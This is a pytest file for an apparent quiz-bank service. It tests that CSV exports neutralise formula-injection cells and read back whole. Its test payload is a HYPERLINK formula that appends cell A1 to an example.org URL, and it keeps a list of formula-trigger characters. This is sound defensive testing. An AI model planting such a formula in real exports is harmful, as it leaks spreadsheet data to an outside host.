"""Cells that a spreadsheet would run: neutral in every table that we write, and read back whole."""

import csv
from collections.abc import Iterator
from dataclasses import replace
from io import BytesIO, StringIO

import pytest
from fastapi.testclient import TestClient

from formats import FORMATS
from formats.csv_table import rows
from tests.factories import DRAFT, Bank
from tests.processes import ROOT

SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
FORMULA = 'HYPERLINK("https://example.org/?"&A1,"a, b")'
PREFIXES = [*SIGNS, *(f"'{sign}" for sign in "=@"), "''=", '"=']
PACKAGES = ("api", "backups", "domain", "formats", "models", "operations", "seed", "terminal")


def running(table: str) -> Iterator[str]:
    """The cells of a table that a spreadsheet would run."""
    for row in csv.reader(StringIO(table, newline="")):
        yield from (cell for cell in row if cell.startswith(tuple(SIGNS)))


def exported(prefix: str) -> tuple[str, bool]:
    """A question with such texts as a table, and whether it is read back the same."""
    text = f"{prefix}{FORMULA}"
    options = tuple(
        replace(one, text=f"{text} {n}", feedback=text) for n, one in enumerate(DRAFT.options)
    )
    draft = replace(
        DRAFT,
        prompt=text,
        options=options,
        explanation=replace(DRAFT.explanation, text=text, references=()),
    )
    form = FORMATS["csv"]
    assert form.book is not None
    content = form.book.head + (form.render(draft).content or b"")
    parsed = next(form.parse(BytesIO(content)), None)
    read = parsed.draft if parsed else None
    same = read is not None and (read.prompt, read.options, read.explanation) == (
        draft.prompt, draft.options, draft.explanation,
    )  # fmt: skip
    return content.decode(), same


@pytest.mark.parametrize("prefix", PREFIXES)
def test_a_question_is_neutral_and_comes_back(prefix: str) -> None:
    table, same = exported(prefix)
    assert list(running(table)) == []
    # A cell is stripped where it is read, so such texts are refused or shortened as ever.
    assert same or prefix in "\t\r\n"


@pytest.mark.parametrize("address", ["/v1/bank/questions/rivers/statistics?format=csv"])
def test_figures_are_neutral(client: TestClient, bank: Bank, address: str) -> None:
    texts = tuple(replace(one, text=f"={n}+1") for n, one in enumerate(DRAFT.options))
    bank.publish(options=texts)
    bank.submit(learner="=1+1")
    table = client.get(address, headers=bank.key("admin")[1]).text
    assert "'=0+1" in table
    assert list(running(table)) == []


def test_a_cell_without_its_guard_is_noticed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Planted: cells are written as they are."""
    monkeypatch.setattr(rows, "_guard", lambda cell: cell)
    assert list(running(exported("=")[0])) != []


def test_tables_are_written_in_one_place() -> None:
    """Another writer would have no guard."""
    found = [
        path.relative_to(ROOT).as_posix()
        for package in PACKAGES
        for path in (ROOT / package).rglob("*.py")
        if "csv.writer" in (source := path.read_text()) or "DictWriter" in source
    ]
    assert found == ["formats/csv_table/rows.py"]
